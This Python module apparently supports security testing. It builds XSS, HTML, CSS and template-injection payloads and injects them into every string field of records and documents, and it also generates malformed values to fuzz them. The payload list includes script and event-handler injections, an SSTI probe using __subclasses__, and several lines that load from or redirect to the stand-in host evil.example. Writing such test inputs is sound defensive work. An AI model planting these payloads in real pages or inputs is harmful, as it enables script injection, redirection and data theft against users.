"""Text that tries to be markup, script or style, and records and documents that hold it wherever text can stand."""

from __future__ import annotations

import random
from collections.abc import Iterator, Mapping
from enum import Enum
from typing import Any

import hostile_names
from penstock.record import Record, items

BAITS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)//",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</svg><script>alert(1)</script>",
    "</title></style></textarea></svg></math><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "</style><style>@import url(http://evil.example/x.css)",
    '<link rel=stylesheet href="http://evil.example/x.css">',
    '<base href="http://evil.example/">',
    '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=http://evil.example/x>",
    "<form action=http://evil.example><input name=x autofocus onfocus=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "` onclick=alert(1) `",
    '" style="position:fixed;inset:0',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "http://evil.example/",
    "<a href=javascript:alert(1)>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<use href=data:image/svg+xml;base64,PHN2Zz4=#x>",
    "<foreignObject><body onload=alert(1)></foreignObject>",
    "<animate onbegin=alert(1) attributeName=x>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script><!--",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "</main></body></html><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<\x00script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "{{ 7*7 }}{% for x in [].__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# comment #}",
    "${7*7}",
    "{block.gate}{0.__class__}",
    "%s%n%(x)s",
    "}</style><script>alert(1)</script>",
    "expression(alert(1))",
    "url(http://evil.example/x.png)",
    "\u202e<txet desrever>\u202c",
    "\u2066\u2067\u2069<b>",
    "\ud800<b>lone</b>",
    "a\u0300" * 50,
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\r\n<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "x" * 5000,
    "<b>" * 300,
    "<table><tr><td>",
    "</td></tr></table><script>alert(1)</script>",
    "<plaintext>",
    "<template><script>alert(1)</script></template>",
    "<math><mtext></math><img src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "sha256:<script>alert(1)</script>",
)


def texts(count: int = 500) -> list[str]:
    """At least so many: the baits, names that try to be commands, and mixtures."""
    rng = random.Random(11)
    found = [*BAITS, *hostile_names.titles()]
    while len(found) < count:
        found.append("".join(rng.choices(BAITS[:60], k=rng.randint(2, 4))))
    return found


class Poison:
    """Puts one text after the other wherever text stands; the same again after the last."""

    def __init__(self, texts: list[str]) -> None:
        self._texts = texts
        self.used = 0

    def next(self) -> str:
        self.used += 1
        return f"x{self._texts[(self.used - 1) % len(self._texts)]}"  # what is made inert leaves something

    def document(self, value: Any, key: str = "") -> Any:
        """A JSON value with every text replaced, the kind of the document kept."""
        if isinstance(value, Mapping):
            return {
                name: each if name == "kind" and key == "" else self.document(each, key or name)
                for name, each in value.items()
            }
        if isinstance(value, list):
            return [self.document(each, key or "-") for each in value]
        return self.next() if isinstance(value, str) else value

    def record(self, value: Any, kept: tuple[str, ...] = ()) -> Any:
        """A record with every text replaced but in these fields and in enumerations."""
        if isinstance(value, Record):
            return type(value)(
                **{name: each if name in kept else self.record(each, kept) for name, each in items(value)}
            )
        if isinstance(value, tuple):
            return tuple(self.record(each, kept) for each in value)
        if isinstance(value, Mapping):
            return {self.next(): self.record(each, kept) for _, each in value.items()}
        return self.next() if isinstance(value, str) and not isinstance(value, Enum) else value


def mutations(document: Any, count: int, seed: int = 0) -> Iterator[Any]:
    """Documents with some of their values replaced by others that do not belong there."""
    rng = random.Random(seed)
    values: tuple[Any, ...] = (
        None,
        True,
        -1,
        0,
        3,
        1e149,
        -1e149,
        1e-300,
        10**400,
        1e308,
        "",
        "x",
        [],
        {},
        [[]],
        {"a": 1},
        [None],
        [1, 0],
    )
    for _ in range(count):
        yield _mutated(document, rng, rng.choice((0.0003, 0.002, 0.02)), values)


def _mutated(value: Any, rng: random.Random, rate: float, others: tuple[Any, ...]) -> Any:
    if rng.random() < rate:
        return rng.choice(others)
    if isinstance(value, dict):
        return {
            name: _mutated(each, rng, rate, others) if name != "kind" else each
            for name, each in value.items()
            if rng.random() > rate / 2
        }
    if isinstance(value, list):
        return [_mutated(each, rng, rate, others) for each in value if rng.random() > rate / 2]
    return value
